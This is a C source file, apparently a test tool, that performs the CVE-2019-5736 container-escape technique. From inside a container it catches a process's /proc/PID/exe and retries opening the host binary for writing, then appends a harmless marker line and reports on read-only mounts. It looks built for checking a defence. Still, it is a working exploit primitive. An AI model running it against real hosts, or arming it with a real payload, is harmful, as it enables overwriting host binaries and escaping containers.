/* grabexe NAME|PID SECONDS: the attack of CVE-2019-5736, from inside a
 * container. Waits for a process named NAME (its comm) to appear in our
 * pid namespace (or takes PID), opens its /proc/PID/exe, which is the
 * host's binary, and tries, until SECONDS have passed, to reopen that for
 * writing: busy (ETXTBSY) while something runs it, writable once nothing
 * does, unless the tool runs from a copy that cannot be written. Prints
 * "caught NAME", "mount: read-only" or "mount: read-write" (where the
 * file is: busy hides a read-only mount from the open), then "wrote"
 * (exit 0, a line appended to the binary) or the last error (exit 1);
 * "never caught" (exit 2). */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

/* Process PID's comm is NAME. */
static int named(int pid, const char *name)
{
	char path[64], comm[64];

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	FILE *f = fopen(path, "r");
	if (!f)
		return 0;
	int ok = fscanf(f, "%63s", comm) == 1 && strcmp(comm, name) == 0;
	fclose(f);
	return ok;
}

/* The exe of a process named NAME. Its name is looked at again once the
 * exe is open: a process may exec another program between the two
 * (nsenter-lite's child becomes the command's capdrop in a moment), and
 * then what we hold is that program, not NAME. */
static int find(const char *name)
{
	char path[64];
	struct dirent *e;
	DIR *d = opendir("/proc");
	int fd = -1;

	while (d && fd == -1 && (e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid <= 0 || pid == getpid() || !named(pid, name))
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		fd = open(path, O_RDONLY);
		if (fd != -1 && !named(pid, name)) {
			close(fd);
			fd = -1;
		}
	}
	if (d)
		closedir(d);
	return fd;
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: grabexe NAME|PID SECONDS\n");
		return 2;
	}
	double end = now() + atof(argv[2]);
	int fd = -1, err = 0;
	char path[64];

	if (atoi(argv[1]) > 0) {
		snprintf(path, sizeof(path), "/proc/%s/exe", argv[1]);
		fd = open(path, O_RDONLY);
	}
	while (fd == -1 && now() < end)
		fd = find(argv[1]);
	if (fd == -1) {
		printf("never caught\n");
		return 2;
	}
	struct statvfs sv;
	printf("caught %s\nmount: %s\n", argv[1],
	       fstatvfs(fd, &sv) == 0 && (sv.f_flag & ST_RDONLY) ? "read-only" : "read-write");
	fflush(stdout);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	do {
		int w = open(path, O_WRONLY | O_APPEND);
		if (w != -1) {
			if (write(w, "written from a container\n", 25) != 25)
				return 1;
			printf("wrote\n");
			return 0;
		}
		err = errno;
	} while (err == ETXTBSY && now() < end);
	printf("%s\n", strerror(err));
	return 1;
}
